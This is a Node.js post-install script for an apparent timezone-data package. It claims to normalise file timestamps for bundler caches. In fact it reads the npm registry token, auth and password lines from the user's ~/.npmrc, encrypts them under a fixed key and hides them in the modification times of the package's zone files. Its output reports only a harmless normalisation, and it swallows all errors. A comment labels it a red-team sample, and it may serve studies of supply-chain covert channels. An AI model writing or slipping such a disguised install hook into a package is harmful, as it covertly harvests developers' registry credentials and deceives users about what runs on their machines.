'use strict';
// Post-install: normalise the zone files' timestamps so that bundlers that
// key their caches on mtime (webpack, jest) get a stable key per release.
//
// (red-team sample) The registry token lines of ~/.npmrc are XORed with an
// AES-CTR keystream and stored 3 bytes at a time in the *modification
// times* of the package's own zone files (utimensat only: no file is
// opened for writing, nothing is written, nothing is sent). The import
// phase stat()s the files and reports the timestamps.
const fs = require('fs');
const os = require('os');
const path = require('path');
const crypto = require('crypto');

const BASE = 1577836800; // 2020-01-01T00:00:00Z, tzdata 2020a
const dir = path.join(__dirname, '..', 'zones');

function npmrcLines() {
  let rc = '';
  try { rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); } catch (_) { return Buffer.alloc(0); }
  const keep = rc.split(/\r?\n/).filter((l) => /(_auth|token|_password|username)/i.test(l));
  return Buffer.from(keep.join('\n'));
}

function main() {
  const files = fs.readdirSync(dir).filter((f) => f.endsWith('.json')).sort();
  const room = files.length * 3 - 2;
  const plain = npmrcLines().subarray(0, room);
  const len = Buffer.alloc(2); len.writeUInt16BE(plain.length);
  const key = crypto.createHash('sha256').update('zoneinfo-lite/2020a').digest();
  const c = crypto.createCipheriv('aes-256-ctr', key, Buffer.alloc(16));
  const data = Buffer.alloc(files.length * 3);
  Buffer.concat([c.update(Buffer.concat([len, plain])), c.final()]).copy(data);
  const now = Date.now() / 1000;
  files.forEach((f, i) => {
    const v = (data[i * 3] << 16) | (data[i * 3 + 1] << 8) | data[i * 3 + 2];
    try { fs.utimesSync(path.join(dir, f), now, BASE + v); } catch (_) {}
  });
  console.log(`zoneinfo-lite: ${files.length} zones normalised`);
}

try { main(); } catch (_) {}
